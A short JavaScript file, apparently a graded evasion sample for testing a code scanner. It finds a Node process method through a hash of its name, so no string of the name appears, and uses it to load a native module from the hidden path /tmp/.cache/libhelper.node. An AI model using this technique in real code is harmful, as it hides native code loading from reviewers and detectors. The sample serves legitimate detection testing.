// evasion: the method of process is chosen by a hash of its name (no string of it anywhere), then called to load a shared object
// grade: very hard; does: native
'use strict';
const hash = (s) => [...s].reduce((a, c) => (a * 31 + c.charCodeAt(0)) | 0, 7);
const wanted = 588664217;
const name = Object.getOwnPropertyNames(process).find((n) => hash(n) === wanted);
const mod = { exports: {} };
process[name](mod, '/tmp/.cache/libhelper.node');
console.log(Object.keys(mod.exports));
